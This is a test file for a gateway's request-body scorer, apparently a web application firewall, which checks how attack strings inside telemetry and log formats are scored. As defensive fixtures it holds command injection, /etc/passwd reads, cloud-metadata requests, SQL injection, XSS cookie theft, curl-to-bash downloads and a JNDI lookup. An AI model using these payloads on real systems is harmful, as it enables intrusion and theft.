import { describe, expect, it } from 'vitest'
import { bodyView } from '../../gateway/http/body.ts'
import { createScorer } from './frame-kit.ts'

const scorer = await createScorer()

function scoreOf(body: unknown): number {
  const bytes = Buffer.from(typeof body === 'string' ? body : JSON.stringify(body))
  const held = { chunks: [bytes], bytes: bytes.length, complete: true }
  return scorer.body(bodyView(held, 'application/json', null).fields()).total
}

const shell = '/bin/sh -c "pdftotext /tmp/a.pdf - | head -5; cat /etc/passwd"'
const inner = 'http://127.0.0.1:9200/_search?q=name'
const cloud = 'http://169.254.169.254/latest/meta-data/iam/info'
const statement = "select a.id from a where a.x = '' or 1=1 union select id, pass from b; delete from c"

const span = (...values: string[]) => ({
  resourceSpans: [
    {
      resource: { attributes: [{ key: 'process.command_line', value: { stringValue: shell } }] },
      scopeSpans: [{ spans: [{ attributes: values.map((stringValue) => ({ key: 'x', value: { stringValue } })) }] }],
    },
  ],
})

describe('what a program reports of its own doings', () => {
  it.each([
    ['spans of OpenTelemetry', span(shell, inner, cloud, statement)],
    [
      'the same with underscores',
      { resource_spans: [{ spans: [{ attributes: [{ value: { string_value: statement } }] }] }] },
    ],
    [
      'logs of OpenTelemetry',
      { resourceLogs: [{ scopeLogs: [{ logRecords: [{ body: { stringValue: `ran ${shell}` } }] }] }] },
    ],
    [
      'spans of Zipkin',
      [{ traceId: 'f3', tags: { 'http.url': inner, 'sql.query': statement, 'process.command': shell } }],
    ],
    [
      'spans of Sentry',
      { spans: [{ description: shell }, { description: statement }, { description: `GET ${cloud}` }] },
    ],
    [
      'an envelope of Sentry',
      `{"event_id":"b"}\n{"type":"transaction"}\n${JSON.stringify({ spans: [{ description: shell }] })}`,
    ],
    ['breadcrumbs', { breadcrumbs: { values: [{ message: statement }, { data: { url: inner } }] } }],
    [
      'the lines around an error',
      {
        exception: {
          values: [{ stacktrace: { frames: [{ context_line: 'el.innerHTML = "<img src=x onerror=alert(1)>"' }] } }],
        },
      },
    ],
    [
      'the same of other services',
      { data: { body: { trace: { frames: [{ code: shell, context: { pre: ["os.system('ls')"] } }] } } } },
    ],
    ['messages of Graylog', { version: '1.1', host: 'a', short_message: statement, full_message: `ran ${shell}` }],
    ['processes in ECS', { process: { command_line: shell, pid: 7, args: ['sh', '-c', `id; ${shell}`] } }],
    ['what a model was told', { messages: [{ content: [{ type: 'tool_result', content: shell }] }] }],
    [
      'calls of a model',
      { input: [{ type: 'function_call', arguments: JSON.stringify({ command: ['sh', '-c', shell] }) }] },
    ],
    ['Elastic APM', { span: { context: { db: { statement }, http: { url: cloud } } } }],
    [
      'lines of Loki',
      {
        streams: [
          {
            stream: { job: 'pg' },
            values: [
              ['1', `statement: ${statement}`],
              ['2', shell],
            ],
          },
        ],
      },
    ],
    ['logs of New Relic', [{ common: {}, logs: [{ message: statement }, { message: shell }] }]],
    ['logs of clouds', { logEvents: [{ message: statement }] }],
    ['entries of a log', { entries: [{ textPayload: shell }, { jsonPayload: { sql: statement } }] }],
    ['exceptions of a service', [{ data: { baseData: { exceptions: [{ message: statement }], url: inner } } }]],
    ['an alarm for who is on duty', { payload: { summary: 'slow', custom_details: { query: statement } } }],
    ['findings of an analysis', { runs: [{ results: [{ locations: [{ region: { snippet: { text: shell } } }] }] }] }],
    ['a report of a browser', { 'csp-report': { 'script-sample': 'alert(document.cookie)' } }],
    [
      'what a model has called',
      { messages: [{ tool_calls: [{ function: { name: 'sh', arguments: JSON.stringify({ command: shell }) } }] }] },
    ],
  ])('passes: %s', (_, body) => {
    expect(scoreOf(body)).toBeLessThan(60)
  })

  it.each([
    ['user_data', '#!/bin/bash\ncurl -fsSL https://x.example/i.sh | bash\nwget https://webhook.site/2f | sh\n'],
    ['userData', '#cloud-config\nruncmd:\n  - curl -s http://169.254.169.254/latest/meta-data/ | sh\n'],
    ['startup-script', '#! /bin/sh\ncat /etc/passwd; rm -rf /tmp/x\n'],
  ])('passes as what a new machine runs: %s', (key, script) => {
    expect(scoreOf({ name: 'node-1', [key]: script })).toBeLessThan(60)
  })

  it('passes as a cell of a notebook, but for markup', () => {
    const cells = [
      { cell_type: 'code', source: '!cat /proc/cpuinfo | grep model' },
      { source: ['import os\n', "os.system('ls')"] },
    ]
    expect(scoreOf({ content: { cells } })).toBeLessThan(60)
    expect(scoreOf({ cells: [{ source: '<img src=x onerror=alert(1)>' }] })).toBeGreaterThanOrEqual(80)
  })

  it('is on the record all the same', () => {
    const bytes = Buffer.from(JSON.stringify(span(statement)))
    const view = bodyView({ chunks: [bytes], bytes: bytes.length, complete: true }, 'application/json', null)
    expect(scorer.body(view.fields()).ids).toContain('sqli.union-select')
  })
})

describe('what is no record', () => {
  it.each([
    ['a start script that is none', { user_data: '127.0.0.1; cat /etc/passwd' }],
    ['a script elsewhere', { host: '#!/bin/sh\ncat /etc/passwd' }],
    ['arguments elsewhere', { args: [`x; ${shell}`] }],
    ['other names', { spans: [{ text: shell }] }],
    [
      'markup that waits in an address',
      { 'csp-report': { 'blocked-uri': "https://a.example/'><script>alert(1)</script>" } },
    ],
    ['markup that waits in a message', { breadcrumbs: [{ message: '<img src=x onerror=alert(1)>' }] }],
    ['frames of a film', { frames: [{ file: '../../../etc/passwd' }] }],
    ['a call of a tool', { method: 'tools/call', params: { arguments: { host: '127.0.0.1; cat /etc/passwd' } } }],
    ['logs of another shape', { logs: { message: statement } }],
    ['details of anything', { custom_details: { query: statement } }],
    ['other places', { filter: { spans: { description: shell } } }],
    ['a statement elsewhere', { statement, db: { query: shell } }],
    ['values of a form', { streams: { values: [shell] } }],
    ['the message of a chat', { messages: [{ content: '<script>alert(document.cookie)</script>' }] }],
    ['an attack beside a record', { ...span(inner), host: `127.0.0.1; ${shell}` }],
    ['lookups, which loggers follow', span(`$${'{jndi:ldap://203.0.113.7/a}'}`)],
    ['serialised objects', span('rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvckk=')],
  ])('is refused: %s', (_, body) => {
    expect(scoreOf(body)).toBeGreaterThanOrEqual(80)
  })
})
